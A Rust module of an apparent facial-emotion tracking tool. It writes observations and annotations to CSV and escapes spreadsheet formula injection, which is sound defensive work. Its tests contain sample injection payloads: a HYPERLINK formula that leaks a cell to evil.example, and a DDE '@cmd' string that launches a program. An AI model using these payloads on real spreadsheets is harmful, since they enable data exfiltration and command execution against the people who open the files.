//! CSV export: one row per observation, and the markers and notes as a second CSV.
//!
//! Observation columns ([`OBSERVATION_COLUMNS`]): `session_id`, `timestamp_ms` (ms since session start),
//! `frame_index`, `track_id`, `track_name` ("P07", or "Face {id}" when unnamed), `x`, `y`, `width`, `height` (face
//! box, pixels of the source frame), `score` (detector score), `raw_angry` .. `raw_neutral` (this frame's classifier
//! probabilities), `angry` .. `neutral` (per-track smoothed probabilities), `dominant_emotion` (argmax of the
//! smoothed probabilities, as the live screen and `analyze` show it).
//!
//! Annotation columns ([`ANNOTATION_COLUMNS`]): `id`, `kind` (marker or note), `start_ms`, `end_ms` (empty for an
//! instant), `label`, `track_id` (empty when about no track). On stdout only the observations are written;
//! `emotrace export --format csv --out FILE.csv` writes the annotations to `FILE.annotations.csv` beside it.
//!
//! Text cells go through [`spreadsheet_safe`] (CSV/formula injection); numbers are written plainly, in Rust's
//! shortest round-trip decimal form.

use std::borrow::Cow;
use std::io::Write;

use super::SessionExport;
use crate::classify::{Emotion, NUM_EMOTIONS};

/// Header of the observations CSV.
pub const OBSERVATION_COLUMNS: [&str; 25] = [
    "session_id",
    "timestamp_ms",
    "frame_index",
    "track_id",
    "track_name",
    "x",
    "y",
    "width",
    "height",
    "score",
    "raw_angry",
    "raw_disgust",
    "raw_fear",
    "raw_happy",
    "raw_sad",
    "raw_surprise",
    "raw_neutral",
    "angry",
    "disgust",
    "fear",
    "happy",
    "sad",
    "surprise",
    "neutral",
    "dominant_emotion",
];

/// Header of the annotations CSV.
pub const ANNOTATION_COLUMNS: [&str; 6] = ["id", "kind", "start_ms", "end_ms", "label", "track_id"];

/// A text cell made safe to open in a spreadsheet (OWASP "CSV Injection"): a value starting (after any spaces)
/// with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so that Excel, LibreOffice or Google
/// Sheets show it as text instead of evaluating it as a formula. Quoting of separators, quotes and newlines is left to the CSV writer.
/// Only for text: numbers (a negative box coordinate) are written as they are.
pub fn spreadsheet_safe(text: &str) -> Cow<'_, str> {
    // Spreadsheets that trim spaces before parsing (LibreOffice's default) see " =1+1" as a formula too.
    match text.trim_start_matches(' ').chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// Writes the observations CSV (header, then one row per observation in frame order) to `out`.
///
/// Errors: `out` cannot be written.
pub fn write_observations(data: &SessionExport, out: &mut dyn Write) -> anyhow::Result<()> {
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(OBSERVATION_COLUMNS)?;
    let labels: std::collections::HashMap<u32, String> =
        data.tracks.iter().map(|t| (t.id, spreadsheet_safe(&t.label()).into_owned())).collect();
    let session_id = spreadsheet_safe(&data.session.id).into_owned();
    let mut row: Vec<String> = Vec::with_capacity(OBSERVATION_COLUMNS.len());
    for o in &data.observations {
        row.clear();
        row.push(session_id.clone());
        row.push(o.timestamp_ms.to_string());
        row.push(o.frame_index.to_string());
        row.push(o.track_id.to_string());
        row.push(
            labels
                .get(&o.track_id)
                .cloned()
                .unwrap_or_else(|| spreadsheet_safe(&data.track_label(o.track_id)).into_owned()),
        );
        for v in [o.bbox.x, o.bbox.y, o.bbox.w, o.bbox.h, o.score] {
            row.push(v.to_string());
        }
        row.extend(o.raw.iter().map(f32::to_string));
        row.extend(o.smoothed.iter().map(f32::to_string));
        row.push(Emotion::argmax(&o.smoothed).name().to_string());
        debug_assert_eq!(row.len(), 10 + 2 * NUM_EMOTIONS + 1);
        w.write_record(&row)?;
    }
    w.flush()?;
    Ok(())
}

/// Writes the annotations CSV (header, then one row per marker or note in creation order) to `out`.
///
/// Errors: `out` cannot be written.
pub fn write_annotations(data: &SessionExport, out: &mut dyn Write) -> anyhow::Result<()> {
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(ANNOTATION_COLUMNS)?;
    for a in &data.annotations {
        let kind = serde_json::to_value(a.kind)?.as_str().unwrap_or_default().to_string();
        w.write_record([
            a.id.to_string(),
            kind,
            a.start_ms.to_string(),
            a.end_ms.map(|v| v.to_string()).unwrap_or_default(),
            spreadsheet_safe(&a.label).into_owned(),
            a.track_id.map(|v| v.to_string()).unwrap_or_default(),
        ])?;
    }
    w.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::export::tests::sample_export;

    #[test]
    fn formulas_and_their_lookalikes_are_defused_and_plain_text_is_kept() {
        assert_eq!(
            spreadsheet_safe("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
        );
        for bad in ["+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"] {
            let safe = spreadsheet_safe(bad);
            assert!(safe.starts_with('\'') && safe[1..] == *bad, "{bad:?} -> {safe:?}");
        }
        for ok in ["P07", "Face 1", "", "a=b", "'quoted", "stimulus 3"] {
            assert!(matches!(spreadsheet_safe(ok), Cow::Borrowed(s) if s == ok), "{ok:?}");
        }
    }

    #[test]
    fn injected_names_and_labels_come_out_as_text_and_numbers_stay_numbers() {
        let evil = "=HYPERLINK(\"http://evil.example\",\"x\")";
        let data = sample_export(evil, "@cmd|' /C calc'!A0");

        let mut buf = Vec::new();
        write_observations(&data, &mut buf).unwrap();
        let mut r = ::csv::Reader::from_reader(buf.as_slice());
        assert_eq!(r.headers().unwrap().iter().collect::<Vec<_>>(), OBSERVATION_COLUMNS);
        let rows: Vec<::csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), data.observations.len());
        let named: Vec<_> = rows.iter().filter(|r| &r[3] == "2").collect();
        assert_eq!(named.len(), 3);
        for row in &named {
            assert_eq!(&row[4], format!("'{evil}"));
            // A negative coordinate is a number, not a formula.
            assert_eq!(&row[5], "-1.5");
            assert_eq!(&row[24], "neutral");
        }
        assert_eq!(&rows[0][4], "Face 1");
        assert_eq!(
            rows[0].iter().skip(10).take(7).collect::<Vec<_>>(),
            ["0.05", "0.05", "0.1", "0.5", "0.1", "0.1", "0.1"]
        );

        let mut buf = Vec::new();
        write_annotations(&data, &mut buf).unwrap();
        let text = String::from_utf8(buf).unwrap();
        let mut r = ::csv::Reader::from_reader(text.as_bytes());
        assert_eq!(r.headers().unwrap().iter().collect::<Vec<_>>(), ANNOTATION_COLUMNS);
        let rows: Vec<::csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0].iter().skip(1).collect::<Vec<_>>(), ["marker", "80", "", "'@cmd|' /C calc'!A0", "2"]);
        assert_eq!(rows[1].iter().skip(1).collect::<Vec<_>>(), ["note", "40", "120", "calm", ""]);
    }
}
